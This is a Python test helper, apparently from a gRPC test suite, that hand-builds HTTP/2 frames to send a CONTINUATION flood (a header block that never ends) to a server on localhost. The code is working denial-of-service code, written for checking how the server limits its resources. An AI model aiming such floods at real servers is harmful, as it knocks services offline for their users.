"""HTTP/2 CONTINUATION floods sent by hand over a raw TCP socket.

A request whose header block never ends: a HEADERS frame without END_HEADERS, then CONTINUATION
frames of 16 KiB. grpc must read the whole block (HPACK's state depends on it) even past its
metadata limit. Shared by tests/test_header_floods.py and bench/fuzz.py --continuation-floods.
"""

from __future__ import annotations

import socket
import struct

H2_MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's initial value


def h2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def hpack_int(value: int, prefix_bits: int) -> bytes:
    """RFC 7541 §5.1 integer with an N-bit prefix (the prefix's other bits zero)."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([value])
    out, value = [top], value - top
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


# An HPACK literal header field without indexing, new name: "f: v" (RFC 7541 §6.2.2).
SMALL_FIELD = b"\x00\x01f\x01v"


def continuation_flood(port: int, mib: int, shape: str) -> int:
    """Bytes of CONTINUATION payload the server took before it closed the connection.
    shape "value": one header whose value is `mib` MiB long; "fields": `mib` MiB of tiny header
    fields (the classic CONTINUATION flood: each one a metadata entry to keep)."""
    total = mib << 20
    block = b"\x83\x86\x84"  # :method POST, :scheme http, :path /
    if shape == "value":  # a literal "x-flood" whose value can only end after `total` bytes
        block += b"\x00" + hpack_int(7, 7) + b"x-flood" + hpack_int(total, 7)
        payload = b"a" * H2_MAX_FRAME
    else:
        payload = SMALL_FIELD * (H2_MAX_FRAME // len(SMALL_FIELD))
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
        sock.sendall(h2_frame(1, 0, 1, block))  # HEADERS without END_HEADERS
        chunk = h2_frame(9, 0, 1, payload)  # CONTINUATION without END_HEADERS
        try:
            while sent < total:
                sock.sendall(chunk)
                sent += len(payload)
        except OSError:  # reset or closed by the server: where it stopped reading
            pass
    return sent
